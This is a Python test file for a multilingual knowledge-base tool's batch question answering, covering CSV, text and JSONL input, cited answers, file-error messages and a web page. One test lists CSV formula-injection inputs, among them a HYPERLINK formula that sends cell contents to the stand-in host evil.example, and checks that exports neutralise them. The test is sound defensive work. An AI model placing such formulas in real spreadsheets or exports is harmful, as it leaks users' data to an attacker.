"""Batch Q&A on the full index: CSV or text in, CSV and Markdown out with citations, and clear errors for bad files."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from gradio_client import Client, handle_file

from cli.main import main
from indexer.pipeline import build_index
from kb.embedder import SentenceTransformerEmbedder
from kb.errors import InputError
from kb.feedback import Feedback, FeedbackStore
from kb.service import KnowledgeBase
from kb.settings import Settings
from tests.ui_server import serving
from trainer.batch import BatchAnswer, BatchQuestion, answer_all, read_questions, write

QUESTIONS = [  # id, question, expected language, a fact the answer must state
    ("ja-1", "バゴ市のコンポストセンターは一日何トンの市場ごみを処理していますか", "ja", "1 トン"),
    ("en-1", "How many household compost baskets were distributed in Cebu?", "en", "2,000"),
    ("id-1", "Berapa ton sampah pasar yang dikompos di Bago setiap hari?", "id", "1 ton"),
    ("th-1", "Bago ทำปุ๋ยหมักจากขยะตลาดวันละเท่าไร", "th", "1 ตัน"),
]


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, full_index: Settings) -> Settings:
    monkeypatch.setenv("KYODO_HOME", str(full_index.home))
    monkeypatch.setenv("KYODO_CORPUS", str(full_index.corpus))
    monkeypatch.setenv("KYODO_EMBED_MODEL", full_index.embed_model)
    return full_index


def questions_csv(path: Path) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as out:  # as Excel saves it, BOM and all
        writer = csv.writer(out)
        writer.writerow(["id", "Question"])
        writer.writerows([(ident, question) for ident, question, *_ in QUESTIONS])
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as rows:
        return list(csv.DictReader(rows))


def test_csv_in_csv_and_markdown_out_with_citations_in_four_languages(
        full_index: Settings, embedder: SentenceTransformerEmbedder, tmp_path: Path) -> None:
    items = read_questions(questions_csv(tmp_path / "questions.csv"))
    assert [(i.id, i.lang) for i in items] == [(q[0], None) for q in QUESTIONS]
    seen: list[tuple[int, int]] = []
    results = list(answer_all(KnowledgeBase(full_index, embedder), items, progress=lambda d, t: seen.append((d, t))))
    assert seen[0] == (0, 4) and seen[-1] == (4, 4)
    write(results, tmp_path / "answers.csv")
    write(results, tmp_path / "answers.md")
    rows = read_csv(tmp_path / "answers.csv")
    assert [r["id"] for r in rows] == [q[0] for q in QUESTIONS]
    for row, (ident, question, lang, fact) in zip(rows, QUESTIONS):
        assert row["question"] == question and row["language"] == lang and row["abstained"] == "false"
        assert fact in row["answer"], f"{ident}: expected {fact!r} in the answer, got {row['answer']!r}"
        assert "[1]" in row["answer"] and row["sources"].startswith("[1] ") and "iges-bago-cebu-composting" in row["sources"]
        assert row["quotes"].startswith("[1] ") and row["error"] == ""
    report = (tmp_path / "answers.md").read_text(encoding="utf-8")
    for ident, question, *_ in QUESTIONS:
        assert f"## {ident}. {question}" in report
    assert report.count("- [1] ") == 4 and "  > " in report


def test_cli_batch_reads_csv_and_text_and_writes_csv_markdown_or_jsonl(env: Settings, tmp_path: Path, capsys) -> None:
    questions = questions_csv(tmp_path / "questions.csv")
    assert main(["ask", "--batch", str(questions), "--out", str(tmp_path / "answers.csv")]) == 0
    assert "4 questions (0 abstained, 0 failed)" in capsys.readouterr().out
    assert [r["language"] for r in read_csv(tmp_path / "answers.csv")] == [q[2] for q in QUESTIONS]
    lines = tmp_path / "questions.txt"
    lines.write_text("\n".join(q[1] for q in QUESTIONS[2:]) + "\n\n", encoding="utf-8")
    assert main(["ask", "--batch", str(lines), "--out", str(tmp_path / "answers.md")]) == 0
    report = (tmp_path / "answers.md").read_text(encoding="utf-8")
    assert f"## 1. {QUESTIONS[2][1]}" in report and f"## 2. {QUESTIONS[3][1]}" in report
    capsys.readouterr()
    assert main(["ask", "--batch", str(lines)]) == 0  # no --out: the JSONL of 'kyodo ask --batch'
    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(r["id"], r["language"]) for r in records] == [("1", "id"), ("2", "th")]


def test_empty_file_and_missing_question_column_are_errors_naming_the_file(env: Settings, tmp_path: Path,
                                                                           capsys) -> None:
    empty = tmp_path / "empty.csv"
    empty.write_text(" \n", encoding="utf-8")
    with pytest.raises(InputError, match=r"empty\.csv: the file is empty"):
        read_questions(empty)
    assert main(["ask", "--batch", str(empty), "--out", str(tmp_path / "a.csv")]) == 1
    assert capsys.readouterr().err.strip() == (
        f"kyodo: {empty}: the file is empty: write one question per line, or a CSV whose header has a 'question' column")
    wrong = tmp_path / "wrong.csv"
    wrong.write_text("id,text\n1,How did Surabaya cut its waste?\n", encoding="utf-8")
    assert main(["ask", "--batch", str(wrong), "--out", str(tmp_path / "a.csv")]) == 1
    assert capsys.readouterr().err.strip() == (
        f"kyodo: {wrong}: no 'question' column (the header has 'id', 'text'): name the column of questions "
        "'question', or upload a .txt file with one question per line")
    assert not (tmp_path / "a.csv").exists()
    bad_lang = tmp_path / "lang.csv"
    bad_lang.write_text("question,lang\nBonjour ?,fr\n", encoding="utf-8")
    assert read_questions(bad_lang)[0].error == (f"{bad_lang}:2: language 'fr' is not one of ja, en, id, th "
                                                 "(leave it empty to detect it)")
    assert main(["ask", "--batch", str(wrong), "--out", str(tmp_path / "a.xlsx")]) == 1
    assert "a.xlsx: cannot write .xlsx: name it .csv, .md or .jsonl" in capsys.readouterr().err


def test_the_page_answers_an_uploaded_batch_and_builds_a_pack(full_index: Settings, tmp_path: Path) -> None:
    with serving(full_index) as served:
        client = Client(served.url, verbose=False)
        files, note, table = client.predict(handle_file(str(questions_csv(tmp_path / "questions.csv"))), "auto", "en",
                                            api_name="/batch_answers")
        assert sorted(Path(f).suffix for f in files) == [".csv", ".md"]
        assert note.startswith("Answered 4 questions") and len(table["data"]) == 4
        assert [r["language"] for r in read_csv(Path(next(f for f in files if f.endswith(".csv"))))] == \
            [q[2] for q in QUESTIONS]
        with pytest.raises(Exception, match=r"empty\.txt: the file is empty"):
            empty = tmp_path / "empty.txt"
            empty.write_text("", encoding="utf-8")
            client.predict(handle_file(str(empty)), "auto", "en", api_name="/batch_answers")
        files, markdown = client.predict("market waste composting", "id", 1, [], [], [], "en",
                                         api_name="/session_pack")
        assert sorted(Path(f).suffix for f in files) == [".md", ".pdf"]
        assert markdown.startswith("# Paket sesi: market waste composting")


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bago\")", "+1 test", "-x", "@SUM(1)", "\tTab first", "\rCR first"]


def test_batch_and_feedback_csv_exports_neutralise_formula_cells(tmp_path: Path) -> None:
    results = [BatchAnswer(BatchQuestion(value, value), None, value) for value in FORMULAS]
    write(results, tmp_path / "answers.csv")
    rows = read_csv(tmp_path / "answers.csv")
    assert [(r["id"], r["question"], r["error"]) for r in rows] == [("'" + v,) * 3 for v in FORMULAS]
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    for value in FORMULAS:
        store.save(Feedback(value, "en", value, "[]", "down", value))
    with (tmp_path / "feedback.csv").open("w", encoding="utf-8", newline="") as out:
        assert store.export_csv(out) == len(FORMULAS)
    rows = read_csv(tmp_path / "feedback.csv")
    # The comment is stripped when stored, so tab and CR starts survive only in the question and answer.
    assert [(r["question"], r["answer"]) for r in rows] == [("'" + v, "'" + v) for v in FORMULAS]
    assert [r["comment"] for r in rows] == ["'" + v for v in FORMULAS[:4]] + ["Tab first", "CR first"]
    assert rows[0]["rating"] == "down" and rows[0]["id"] == "1"


@pytest.mark.parametrize(("content", "message"), [
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a text file (it holds binary data); save the questions as UTF-8 CSV, "
                                            "text or JSONL"),
    ('{"id": 1, "question": "Chonburi café?"}\n'.encode("latin-1"), "not UTF-8 text (byte 35); save it as UTF-8 CSV "
                                                                    "or text"),
], ids=["png", "latin-1"])
@pytest.mark.parametrize("out", [None, "answers.csv"], ids=["jsonl-out", "csv-out"])
def test_binary_or_non_utf8_batch_file_is_one_line_naming_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                            capsys, content: bytes, message: str, out: str | None) -> None:
    monkeypatch.setenv("KYODO_HOME", str(tmp_path / "home"))  # the file is refused before any index is opened
    batch = tmp_path / "questions.jsonl"
    batch.write_bytes(content)
    argv = ["ask", "--batch", str(batch)] + (["--out", str(tmp_path / out)] if out else [])
    assert main(argv) == 1
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("", f"kyodo: {batch}: {message}\n")


def test_bad_batch_items_are_recorded_and_the_rest_answered_with_ids_kept(
        small_corpus: Settings, embedder: SentenceTransformerEmbedder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys) -> None:
    build_index(small_corpus, embedder)
    monkeypatch.setenv("KYODO_HOME", str(small_corpus.home))
    monkeypatch.setenv("KYODO_CORPUS", str(small_corpus.corpus))
    monkeypatch.setenv("KYODO_EMBED_MODEL", small_corpus.embed_model)
    batch = tmp_path / "q.jsonl"
    batch.write_text("\n".join([
        '{"id": 7, "question": "How many household compost baskets were distributed in Cebu?"}',
        '{"id": "b", "question": "   "}',
        '{"id": 3.5, "question": "Bago?", "lang": "fr"}',
        "[1, 2]",
        "not json",
        '{"question": "Bago ทำปุ๋ยหมักจากขยะตลาดวันละเท่าไร"}',
    ]) + "\n", encoding="utf-8")
    errors = {"b": f"{batch}:2: the question is empty (write a question, or delete the line)",
              3.5: f"{batch}:3: language 'fr' is not one of ja, en, id, th (leave it empty to detect it)",
              "4": f'{batch}:4: needs a "question" string, e.g. {{"id": "q1", "question": "..."}}',
              "5": f'{batch}:5: not a JSON object (Expecting value); write one {{"id", "question"}} per line'}

    def check(records: list[dict]) -> None:
        assert [r["id"] for r in records] == [7, "b", 3.5, "4", "5", "6"]
        assert {r["id"]: r["error"] for r in records if "error" in r} == errors
        assert "2,000" in records[0]["answer"] and records[5]["language"] == "th" and "1 ตัน" in records[5]["answer"]

    assert main(["ask", "--batch", str(batch)]) == 1
    printed = capsys.readouterr()
    on_stdout = [json.loads(line) for line in printed.out.splitlines()]
    check(on_stdout)
    # stderr also carries the model's loading progress bar
    assert [line for line in printed.err.splitlines() if "failed" in line] == [f"failed: {e}" for e in errors.values()]
    assert main(["ask", "--batch", str(batch), "--out", str(tmp_path / "answers.jsonl")]) == 1
    in_file = [json.loads(line) for line in (tmp_path / "answers.jsonl").read_text(encoding="utf-8").splitlines()]
    check(in_file)
    # Both routes are one runner: the same records line for line, only the timings differ.
    assert [{k: v for k, v in r.items() if k != "timings_ms"} for r in on_stdout] == \
        [{k: v for k, v in r.items() if k != "timings_ms"} for r in in_file]
    assert "6 questions (0 abstained, 4 failed)" in capsys.readouterr().out
    assert main(["search", "--batch", str(batch)]) == 1
    hits = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [h["id"] for h in hits] == [7, "b", 3.5, "4", "5", "6"]
    assert hits[0]["hits"][0]["doc_id"] == "iges-bago-cebu-composting" and hits[1]["error"] == errors["b"]
